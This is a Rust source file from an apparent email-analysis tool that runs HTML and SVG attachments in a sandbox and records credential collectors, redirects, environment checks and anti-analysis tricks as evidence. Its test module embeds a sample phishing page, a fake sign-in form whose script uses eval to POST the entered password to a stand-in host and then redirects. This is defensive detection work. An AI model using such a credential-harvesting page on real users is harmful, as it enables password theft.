//! Pages of files that run: a visit in the sandbox, and what came of it as members.
//!
//! Mail programs run no scripts, so that bodies are not visited; a browser that opens an attachment does. What came out
//! of a visit is read but not visited again. Members are, in this order: documents that scripts wrote, code that was built
//! at run time, files that were handed out, the outline of what is seen, and the record of the visit, to which collectors,
//! requests, redirects, gates and tricks point.

use creel_evidence::dissection::{AnomalyKind, CollectorKind, FeatureKind, LinkContext};
use creel_evidence::{ArtifactRole, ContentType};
use creel_mime::charset;
use creel_openers::member::{FoundCollector, FoundLink, Member, MemberKind, Opened, Opening, Place, Source};
use creel_sandbox::{Collector, Limits, Outcome, has_scripts, run};

/// Documents that become members.
const MAX_DOCUMENTS: usize = 12;
/// Pieces of code that become members.
const MAX_CODE: usize = 50;
/// Links and features that one visit may give.
const MAX_FOUND: usize = 100;

/// Whether what plays this role is opened in a browser when its reader clicks on it.
pub(crate) fn is_visited(role: ArtifactRole, name: Option<&str>, is: ContentType) -> bool {
    let is_file = matches!(role, ArtifactRole::Attachment | ArtifactRole::Entry | ArtifactRole::Submission);
    if !is_file {
        return false;
    }
    let extension = name
        .and_then(|name| name.trim_end().rsplit_once('.'))
        .map(|(_, extension)| extension.to_ascii_lowercase())
        .unwrap_or_default();
    match is {
        ContentType::Html | ContentType::Svg => true,
        ContentType::Text | ContentType::Xml | ContentType::Script | ContentType::Binary => {
            matches!(extension.as_str(), "html" | "htm" | "xhtml" | "shtml" | "xht" | "svg")
        }
        _ => false,
    }
}

/// Visits a page.
pub(crate) fn open(source: Source<'_>, opening: &mut Opening<'_>) -> Opened {
    let mut opened = Opened::default();
    let page = charset::to_utf8(source.bytes, source.charset).text;
    if !has_scripts(&page) {
        return opened;
    }
    if !opening.budget.spend_visit() {
        opened.complain(AnomalyKind::LimitReached, "visits");
        return opened;
    }
    let outcome = run(&page, &Limits::default());
    for limit in &outcome.limits {
        opened.complain(AnomalyKind::LimitReached, format!("visit-{limit}"));
    }
    let members = members(&outcome);
    let given = members.iter().map(|member| member.bytes.len() as u64).sum();
    if !opening.budget.spend_bytes(given) {
        opened.complain(AnomalyKind::LimitReached, "visit-bytes");
        return opened;
    }
    opened.members = members;
    tell(&outcome, &mut opened);
    opened
}

/// A member's bytes again.
pub(crate) fn member(source: Source<'_>, index: usize) -> Option<Vec<u8>> {
    let page = charset::to_utf8(source.bytes, source.charset).text;
    let outcome = run(&page, &Limits::default());
    members(&outcome).into_iter().find(|member| member.index == index).map(|member| member.bytes)
}

/// The members of a visit; none of one in which nothing happened.
fn members(outcome: &Outcome) -> Vec<Member> {
    let happened = !outcome.documents.is_empty()
        || !outcome.code.is_empty()
        || !outcome.drops.is_empty()
        || is_told(outcome);
    if !happened {
        return Vec::new();
    }
    let mut list = Vec::new();
    let mut push = |member: Member| list.push(member);
    for document in outcome.documents.iter().take(MAX_DOCUMENTS) {
        let member = Member::new(0, MemberKind::Page, document.html.clone().into_bytes());
        push(member.named(format!("page as {} by its scripts", document.how.as_str())));
    }
    for code in outcome.code.iter().take(MAX_CODE) {
        let member = Member::new(0, MemberKind::Code, code.text.clone().into_bytes());
        push(member.named(format!("code run by {}", code.how)));
    }
    for file in &outcome.drops {
        let mut member = Member::new(0, MemberKind::File, file.bytes.clone());
        member.name = Some(plain(&file.name)).filter(|name| !name.is_empty());
        member.declared_type = Some(plain(&file.media_type)).filter(|kind| !kind.is_empty());
        push(member);
    }
    for (name, text) in [("outline of the page", &outcome.outline), ("record of the visit", &outcome.record)]
    {
        push(Member::new(0, MemberKind::Part, text.clone().into_bytes()).named(name));
    }
    for (index, member) in list.iter_mut().enumerate() {
        member.index = index;
    }
    list
}

/// Whether there is anything that the record is pointed at for.
fn is_told(outcome: &Outcome) -> bool {
    !outcome.collectors.is_empty()
        || !outcome.redirects.is_empty()
        || !outcome.requests.is_empty()
        || !outcome.gates.is_empty()
        || !outcome.tricks.is_empty()
}

/// A name on one line.
fn plain(text: &str) -> String {
    text.chars().map(|c| if c.is_control() { ' ' } else { c }).collect()
}

/// Collectors, requests, redirects, gates and tricks, each with its place in the record.
fn tell(outcome: &Outcome, opened: &mut Opened) {
    let Some(record) = opened.members.len().checked_sub(1) else { return };
    // Where a line of the record that begins so names what follows.
    let find = |before: &str, what: &str| {
        let line = format!("\n{before}{what}");
        let at = outcome.record.find(&line)? + 1 + before.len();
        Some(Place::member(record, at..at + what.len()))
    };
    let link = |at: Place, raw: &str, context| FoundLink {
        at,
        raw: raw.to_owned(),
        context,
        text: String::new(),
        visible: false,
    };
    for found in &outcome.collectors {
        let Collector { url, method, fields, kind, service_id, token: _, chat, carries: _ } = found;
        let kind_word = kind.as_str();
        let Some(at) = find(&format!("collector {kind_word} {method} "), url) else { continue };
        let Ok(kind) = kind_word.parse::<CollectorKind>() else { continue };
        opened.links.push(link(at, url, LinkContext::Sent));
        let detail = format!("{kind_word} {method} {url}");
        opened.feature(FeatureKind::CredentialCollector, detail, at);
        opened.collectors.push(FoundCollector {
            at,
            kind,
            target: url.clone(),
            method: method.clone(),
            fields: fields.clone(),
            service_id: service_id.clone(),
            chat: chat.clone(),
        });
    }
    for request in outcome.requests.iter().take(MAX_FOUND) {
        let known = outcome.collectors.iter().any(|collector| request.url.starts_with(&collector.url));
        let before =
            format!("request {} {} {} ", request.phase.as_str(), request.how.as_str(), request.method);
        if let Some(at) = find(&before, &request.url).filter(|_| !known) {
            opened.links.push(link(at, &request.url, LinkContext::Sent));
        }
    }
    for redirect in outcome.redirects.iter().take(MAX_FOUND) {
        let before = format!("redirect {} {} ", redirect.phase.as_str(), redirect.how);
        if let Some(at) = find(&before, &redirect.url) {
            opened.links.push(link(at, &redirect.url, LinkContext::Redirect));
        }
    }
    for file in &outcome.drops {
        let before = if file.clicked { "file offered by a click " } else { "file handed out " };
        if let Some(at) = find(before, &plain(&file.name)).filter(|_| !file.name.is_empty()) {
            opened.feature(FeatureKind::DroppedFile, format!("{before}{}", plain(&file.name)), at);
        }
    }
    if let Some(code) = outcome.code.first() {
        let before = format!("code {} ", code.how);
        if let Some(at) = find(&before, &code.text.len().to_string()) {
            opened.feature(FeatureKind::BuiltCode, format!("{} pieces", outcome.code.len()), at);
        }
    }
    for (kind, word, notes) in [
        (FeatureKind::EnvironmentCheck, "gate ", &outcome.gates),
        (FeatureKind::AntiAnalysis, "trick ", &outcome.tricks),
    ] {
        for note in notes.iter().take(MAX_FOUND) {
            if let Some(at) = find(word, &note.what) {
                opened.feature(kind, note.what.clone(), at);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use creel_openers::Budget;

    const PAGE: &str = "<form id=f><input name=p type=password><button>Sign in</button></form><script>\
        f.onsubmit = function () { eval(\"fetch('https://c.test/x', {method: 'POST', body: 'p=' + f.p.value})\"); \
        location = 'https://after.example/'; return false }</script>";

    fn visit(page: &str, budget: &mut Budget) -> Opened {
        open(Source { bytes: page.as_bytes(), charset: None }, &mut Opening { passwords: &[], budget })
    }

    #[test]
    fn what_a_visit_says_stands_in_its_record_and_comes_out_the_same_again() {
        let opened = visit(PAGE, &mut Budget::default());
        assert_eq!(opened.anomalies, []);
        assert_eq!(opened.collectors[0].target, "https://c.test/x");
        let record = opened.members.last().unwrap();
        let at = opened.collectors[0].at.span;
        assert_eq!(&record.bytes[at.range()], b"https://c.test/x");
        assert!(
            opened
                .links
                .iter()
                .any(|link| link.context == LinkContext::Redirect && link.raw == "https://after.example/")
        );
        assert!(opened.members.iter().any(|member| member.kind == MemberKind::Code));
        for expected in &opened.members {
            let source = Source { bytes: PAGE.as_bytes(), charset: None };
            assert_eq!(member(source, expected.index).as_ref(), Some(&expected.bytes));
        }
    }

    #[test]
    fn pages_without_scripts_are_not_visited_and_visits_are_counted() {
        let mut budget = Budget { visits: 1, ..Budget::default() };
        assert_eq!(visit("<p>nothing runs</p>", &mut budget), Opened::default());
        assert_eq!(budget.visits, 1);
        assert_eq!(visit("<script>var a = 1</script>", &mut budget).members, []);
        let refused = visit(PAGE, &mut budget);
        assert_eq!(refused.anomalies, [(AnomalyKind::LimitReached, "visits".to_owned())]);
        assert_eq!(refused.members, []);
    }

    #[test]
    fn files_are_visited_and_bodies_are_not() {
        use ArtifactRole::{Attachment, Body, Content, Entry, Inline};
        assert!(is_visited(Attachment, None, ContentType::Html));
        assert!(is_visited(Entry, Some("a.SVG"), ContentType::Xml));
        assert!(!is_visited(Body, None, ContentType::Html));
        assert!(!is_visited(Content, None, ContentType::Html));
        assert!(!is_visited(Inline, Some("logo.svg"), ContentType::Svg));
        assert!(!is_visited(Attachment, Some("a.txt"), ContentType::Text));
    }
}
